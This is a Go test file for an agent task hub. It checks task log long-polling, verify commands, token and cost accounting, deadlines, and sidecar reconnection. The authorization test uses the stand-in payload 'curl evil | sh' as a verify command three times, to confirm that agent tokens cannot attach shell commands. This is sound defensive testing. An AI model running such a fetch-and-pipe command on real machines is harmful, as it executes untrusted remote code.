package hub_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/agentcom/agentcom/internal/auth"
	"github.com/agentcom/agentcom/internal/hub"
	"github.com/agentcom/agentcom/internal/hubtest"
	"github.com/agentcom/agentcom/internal/protocol"
	"github.com/agentcom/agentcom/internal/tasklog"
	"github.com/agentcom/agentcom/internal/testenv"
)

// logs reads GET /api/tasks/{id}/logs with query q.
func (e *engine) logs(id, q string) (int, protocol.TaskLogs) {
	e.t.Helper()
	st, b := e.DoRaw("GET", "/api/tasks/"+id+"/logs"+q, e.AdminToken, nil)
	var l protocol.TaskLogs
	if st == 200 {
		if err := json.Unmarshal(b, &l); err != nil {
			e.t.Fatalf("logs body %s: %v", b, err)
		}
	}
	return st, l
}

func output(c *hubtest.Client, id, text string) {
	c.Send(map[string]any{"type": "task_progress", "task_id": id, "output": text, "protocol_version": 1})
}

func TestTaskLogsKeepOutputAndLongPoll(t *testing.T) {
	e := newEngine(t, func(c *hub.Config) { c.TaskLogs = tasklog.Config{MaxBytes: 32} })
	a := e.Agent("runner")
	id := e.submit(map[string]any{"description": "x"})
	_, g := assignment(a)
	accept(a, id)
	output(a, id, "hello ")
	testenv.Eventually(t, "output kept", func() bool { _, l := e.logs(id, ""); return l.Data == "hello " })

	// A long poll from the end waits for the next output.
	got := make(chan protocol.TaskLogs, 1)
	go func() {
		_, b := e.DoRaw("GET", "/api/tasks/"+id+"/logs?since=6&wait_ms=10000", e.AdminToken, nil)
		var l protocol.TaskLogs
		_ = json.Unmarshal(b, &l)
		got <- l
	}()
	time.Sleep(50 * time.Millisecond) // not needed for correctness: the poll also returns data sent before it waits
	output(a, id, "world")
	select {
	case l := <-got:
		if l.Data != "world" || l.Offset != 6 || l.Next != 11 || l.Done || l.Status != "assigned" {
			t.Fatalf("long poll = %+v", l)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("long poll did not return on new output")
	}

	// Only the holder's output counts.
	other := e.Agent("intruder")
	output(other, id, "forged")
	// Bounded: the oldest output goes, and a reader behind it is told.
	output(a, id, strings.Repeat("z", 40))
	testenv.Eventually(t, "bounded", func() bool { _, l := e.logs(id, "?since=11"); return l.Truncated && l.Data == strings.Repeat("z", 32) })
	if _, l := e.logs(id, ""); strings.Contains(l.Data, "forged") {
		t.Fatalf("non-holder output kept: %+v", l)
	}
	// Oversized output is refused by validation.
	a.Send(map[string]any{"type": "task_progress", "task_id": id, "output": strings.Repeat("x", protocol.MaxProgressOutput+1)})
	if f := a.Expect("error"); f["error"] != "validation_failed" {
		t.Fatalf("oversized output: %v", f)
	}

	// After the task ends the log stays and says done; a poll does not wait.
	expectAck(t, complete(a, id, g), id, "complete")
	start := time.Now()
	_, l := e.logs(id, "?since=51&wait_ms=20000")
	if !l.Done || l.Status != "completed" || time.Since(start) > 10*time.Second {
		t.Fatalf("after completion = %+v", l)
	}
	if st, _ := e.logs("task-0000000000000000", ""); st != 404 {
		t.Fatalf("unknown task: %d", st)
	}
	if st, _ := e.logs(id, "?since=-1"); st != 400 {
		t.Fatalf("negative since: %d", st)
	}
}

func TestTaskVerifyChecksAndUsage(t *testing.T) {
	e := newEngine(t, hubtest.NoBackoff)
	a := e.Agent("runner")
	st, resp := e.Do("POST", "/api/tasks", e.AdminToken, map[string]any{"description": "x", "verify": []string{"go test ./..."}, "max_verify_attempts": 2})
	if st != 201 {
		t.Fatalf("submit: %d %v", st, resp)
	}
	id := resp["task_id"].(string)
	as := a.Expect("task_assign")
	meta, _ := as["metadata"].(map[string]any)
	if v, _ := meta["verify"].([]any); len(v) != 1 || v[0] != "go test ./..." || meta["max_verify_attempts"] != float64(2) {
		t.Fatalf("assign metadata = %v", meta)
	}
	g := int64(as["generation"].(float64))
	accept(a, id)
	a.Send(map[string]any{"type": "task_progress", "task_id": id, "check": protocol.VerifyCheck{Attempt: 1, Command: "go test ./...", ExitCode: 1, OutputTail: "FAIL"}})
	e.waitTask(id, "check in history", func(m map[string]any) bool { return count(historyEvents(m), "verify") == 1 })
	// A malformed usage is refused and changes nothing.
	bad := report(a, "task_complete", id, g, map[string]any{"usage": map[string]any{"total_tokens": "lots"}})
	if bad["type"] != "error" || bad["error"] != "validation_failed" {
		t.Fatalf("bad usage: %v", bad)
	}
	// A failure with usage, then a completion with usage: both count.
	if r := report(a, "task_failed", id, g, map[string]any{"reason": "boom", "usage": map[string]any{"input_tokens": 10, "output_tokens": 5, "cost_usd": 0.5}}); r["status"] != "retried" {
		t.Fatalf("fail: %v", r)
	}
	_, g2 := assignment(a)
	accept(a, id)
	expectAck(t, report(a, "task_complete", id, g2, map[string]any{"result": map[string]any{"status": "success"}, "tokens_used": 7,
		"usage": map[string]any{"total_tokens": 7, "cost_usd": 0.25}}), id, "complete")
	task := e.task(id)
	u, _ := task["usage"].(map[string]any)
	if u["input_tokens"] != float64(10) || u["total_tokens"] != float64(22) || u["cost_usd"] != 0.75 || task["tokens_used"] != float64(7) {
		t.Fatalf("task usage = %v (tokens_used %v)", u, task["tokens_used"])
	}
	var m struct {
		Usage struct {
			Total   protocol.Usage            `json:"total"`
			ByAgent map[string]protocol.Usage `json:"by_agent"`
		} `json:"usage"`
	}
	testenv.Eventually(t, "metrics usage", func() bool {
		_, b := e.DoRaw("GET", "/api/metrics", e.AdminToken, nil)
		_ = json.Unmarshal(b, &m)
		return m.Usage.Total.TotalTokens == 22
	})
	if m.Usage.ByAgent["runner"].CostUSD != 0.75 {
		t.Fatalf("by agent = %v", m.Usage.ByAgent)
	}
	// The sums survive a hub restart (seeded from the stored tasks).
	e.Restart()
	_, b := e.DoRaw("GET", "/api/metrics", e.AdminToken, nil)
	_ = json.Unmarshal(b, &m)
	if m.Usage.Total.TotalTokens != 22 || m.Usage.ByAgent["runner"].TotalTokens != 22 {
		t.Fatalf("after restart = %+v", m.Usage)
	}
	// Bad verify fields are refused.
	for _, body := range []map[string]any{
		{"description": "x", "verify": []string{" "}},
		{"description": "x", "verify": []string{"ok"}, "max_verify_attempts": 11},
		{"description": "x", "verify": "not an array"},
	} {
		if st, _ := e.Do("POST", "/api/tasks", e.AdminToken, body); st != 400 {
			t.Fatalf("%v accepted: %d", body, st)
		}
	}
	// Verification commands run a shell on the agent's machine: an agent
	// token may not attach them, in the body, in metadata or in a batch,
	// and nothing is queued.
	agentTok := e.Token("submitter-1", auth.RoleAgent)
	_, before := e.Do("GET", "/api/tasks?status=queued", e.AdminToken, nil)
	for _, c := range []struct {
		path string
		body map[string]any
	}{
		{"/api/tasks", map[string]any{"description": "x", "verify": []string{"curl evil | sh"}}},
		{"/api/tasks", map[string]any{"description": "x", "metadata": map[string]any{"verify": "curl evil | sh"}}},
		{"/api/tasks/batch", map[string]any{"tasks": []any{map[string]any{"description": "y"},
			map[string]any{"description": "x", "verify": []string{"curl evil | sh"}}}}},
	} {
		st, resp := e.Do("POST", c.path, agentTok, c.body)
		if st != 403 || resp["error"] != "verify_requires_admin" {
			t.Fatalf("agent token with verify on %s: %d %v", c.path, st, resp)
		}
	}
	if _, after := e.Do("GET", "/api/tasks?status=queued", e.AdminToken, nil); after["total"] != before["total"] || before["total"] == nil {
		t.Fatalf("a refused submit changed the queue: %v tasks, then %v", before["total"], after["total"])
	}
}

// A task whose deadline passes is taken back from its connected holder,
// which is told with task_reassign so it stops working.
func TestTaskDeadlineTellsTheHolder(t *testing.T) {
	e := newEngine(t, hubtest.FastTimers)
	a := e.Agent("worker-1")
	id := e.submit(map[string]any{"description": "x", "complete_by": time.Now().Add(300 * time.Millisecond).UnixMilli()})
	assignment(a)
	accept(a, id)
	f := a.ExpectWithin("task_reassign", 10*time.Second)
	if f["task_id"] != id || f["reason"] != "deadline" || f["generation"] == nil {
		t.Fatalf("reassign = %v", f)
	}
}

// reconnectedMidTask gives worker-1 a task it accepts, drops its socket
// (the hub requeues the task) and connects it again: the hub, the task
// and the new socket.
func reconnectedMidTask(t *testing.T) (*engine, string, *hubtest.Client) {
	t.Helper()
	e := newEngine(t, hubtest.FastTimers)
	tok := e.Token("worker-1", auth.RoleAgent)
	a := e.Connect("worker-1", tok, "code")
	id := e.submit(map[string]any{"description": "long job", "needed_capabilities": []string{"code"}})
	assignment(a)
	accept(a, id)
	a.Close()
	e.waitTask(id, "reclaimed on disconnect", func(m map[string]any) bool { return m["status"] == "queued" })
	a2 := e.Connect("worker-1", tok, "code")
	return e, id, a2
}

// A sidecar whose connection dropped comes back still working on its
// task: whether the scheduler offered the requeued task to it again first
// or not, task_recovering continues it (never task_reassign) and its
// report at that generation completes it.
func TestRecoveringAfterDisconnectKeepsTheWork(t *testing.T) {
	e, id, a2 := reconnectedMidTask(t)
	a2.Send(map[string]any{"type": "task_recovering", "task_id": id, "description": "long job", "metadata": map[string]any{}, "last_status": "working"})
	f := a2.Expect("task_continue")
	if f["task_id"] != id {
		t.Fatalf("continue = %v", f)
	}
	g := int64(f["generation"].(float64))
	if task := e.task(id); task["status"] != "assigned" || task["assigned_to"] != "worker-1" || gen(task) != g {
		t.Fatalf("task = %v", task)
	}
	expectAck(t, complete(a2, id, g), id, "complete")
}

// The original Node sidecar, killed while its agent works and restarted,
// reports task_recovering as soon as it is identified; the scheduler may
// already have offered it the requeued task. Told task_continue, the
// sidecar has the task active again, so the offer's task_assign that
// arrives next is declined as "busy" (no generation: the original sends
// none). That decline is stale and is refused (invalid_state): the task
// stays assigned and the agent's report completes it (found by
// scripts/compat-node-sidecar.sh: the task went back to the queue and the
// agent's completion was refused).
func TestOriginalSidecarBusyDeclineOfTheTaskItContinues(t *testing.T) {
	e, id, a2 := reconnectedMidTask(t)
	offered, g := assignment(a2) // the offer, not yet answered
	if offered != id {
		t.Fatalf("offered %s, want %s", offered, id)
	}
	a2.Send(map[string]any{"type": "task_recovering", "task_id": id, "description": "long job", "metadata": map[string]any{}, "last_status": "working", "protocol_version": 1})
	if f := a2.Expect("task_continue"); f["task_id"] != id || int64(f["generation"].(float64)) != g {
		t.Fatalf("continue = %v, want generation %d", f, g)
	}
	a2.Send(map[string]any{"type": "task_rejected", "task_id": id, "reason": "busy", "protocol_version": 1})
	if f := a2.Expect("error"); f["task_id"] != id || f["error"] != "task_reject_failed: invalid_state" {
		t.Fatalf("reply to the stale decline: %v", f)
	}
	if task := e.task(id); task["status"] != "assigned" || task["assigned_to"] != "worker-1" || gen(task) != g {
		t.Fatalf("task after the stale decline = %v", task)
	}
	expectAck(t, complete(a2, id, g), id, "complete")
}
